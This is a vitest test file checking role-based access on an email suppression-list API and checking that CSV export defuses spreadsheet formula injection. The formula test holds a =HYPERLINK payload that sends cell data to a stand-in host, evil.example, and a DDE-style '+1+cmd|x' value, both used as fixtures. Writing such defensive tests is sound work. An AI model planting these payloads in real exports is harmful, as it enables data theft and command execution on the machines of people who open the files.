// The suppression list under attack from the inside: a viewer writing, a team admin reaching into another
// team's entries or the system list, an import aimed at another team, a CSV export opened in a spreadsheet.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Client, startTarget, type Target } from './support/target';

describe('suppressions: each role changes only what it may', () => {
  let target: Target;
  let teamA: string;
  let teamB: string;
  let adminA: Client;
  let viewer: Client;
  let bEntry: string;
  let systemEntry: string;
  beforeAll(async () => {
    target = await startTarget();
    teamA = await target.team('A');
    teamB = await target.team('B');
    adminA = await target.client('team_admin', [teamA]);
    viewer = await target.client('viewer');
    const b = await target.admin.call('POST', '/api/v1/suppressions', {
      address: 'b-only@example.com',
      teamId: teamB,
    });
    expect(b.status, b.text).toBe(201);
    bEntry = b.body.id;
    const s = await target.admin.call('POST', '/api/v1/suppressions', { address: 'everyone@example.com' });
    expect(s.status, s.text).toBe(201);
    systemEntry = s.body.id;
  });
  afterAll(async () => {
    await target?.close();
  });

  it('a viewer cannot add, import or remove', async () => {
    expect((await viewer.call('POST', '/api/v1/suppressions', { address: 'v@example.com' })).status).toBe(
      403,
    );
    const imp = await viewer.call('POST', '/api/v1/suppressions/import', 'v2@example.com\n', {
      'content-type': 'text/csv',
    });
    expect(imp.status).toBe(403);
    expect((await viewer.call('DELETE', `/api/v1/suppressions/${systemEntry}`)).status).toBe(403);
  });

  it("a team admin neither sees nor changes another team's entries, nor the system list", async () => {
    const list = await adminA.call('GET', '/api/v1/suppressions?pageSize=100');
    expect(list.status).toBe(200);
    expect(list.text).not.toContain('b-only@example.com');
    const scoped = await adminA.call('GET', `/api/v1/suppressions?scope=${teamB}`);
    expect(scoped.body.items).toEqual([]);
    const csv = await adminA.call('GET', '/api/v1/suppressions/export');
    expect(csv.text).not.toContain('b-only@example.com');
    expect([403, 404]).toContain((await adminA.call('DELETE', `/api/v1/suppressions/${bEntry}`)).status);
    expect((await adminA.call('DELETE', `/api/v1/suppressions/${systemEntry}`)).status).toBe(403);
    expect(
      (await adminA.call('POST', '/api/v1/suppressions', { address: 'x@example.com', teamId: teamB })).status,
    ).toBe(403);
    expect((await adminA.call('POST', '/api/v1/suppressions', { address: 'x@example.com' })).status).toBe(
      403,
    );
    const imp = await adminA.call('POST', `/api/v1/suppressions/import?teamId=${teamB}`, 'x@example.com\n', {
      'content-type': 'text/csv',
    });
    expect(imp.status).toBe(403);
    const stillThere = await target.admin.call('GET', `/api/v1/suppressions?scope=${teamB}`);
    expect(stillThere.body.items.map((i: { address: string }) => i.address)).toEqual(['b-only@example.com']);
  });

  it('the export defuses cells a spreadsheet would run as a formula', async () => {
    const detail = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const r = await target.admin.call('POST', '/api/v1/suppressions', {
      address: 'formula@example.com',
      teamId: teamA,
      detail,
    });
    expect(r.status, r.text).toBe(201);
    for (const d of ['+1+cmd|x', '-2+3', '@SUM(A1)']) {
      await target.admin.call('POST', '/api/v1/suppressions', {
        address: `f${d.charCodeAt(0)}@example.com`,
        teamId: teamA,
        detail: d,
      });
    }
    const csv = await target.admin.call('GET', '/api/v1/suppressions/export');
    expect(csv.status).toBe(200);
    const cells = csv.text.split(/\r\n/).flatMap((line) => line.split(','));
    for (const cell of cells) {
      const bare = cell.replace(/^"/, '');
      expect(bare, `cell ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("an import's skipped lines never name a team the importer cannot read", async () => {
    const hidden = await target.team('Falcon project');
    const csv = `address,scope\nf1@example.com,${hidden}\nf2@example.com,${teamB}\n`;
    const r = await adminA.call('POST', `/api/v1/suppressions/import?teamId=${teamA}`, csv, {
      'content-type': 'text/csv',
    });
    expect(r.status, r.text).toBe(200);
    expect(r.text).toContain('f1@example.com');
    expect(r.text).not.toContain('Falcon');
  });
});
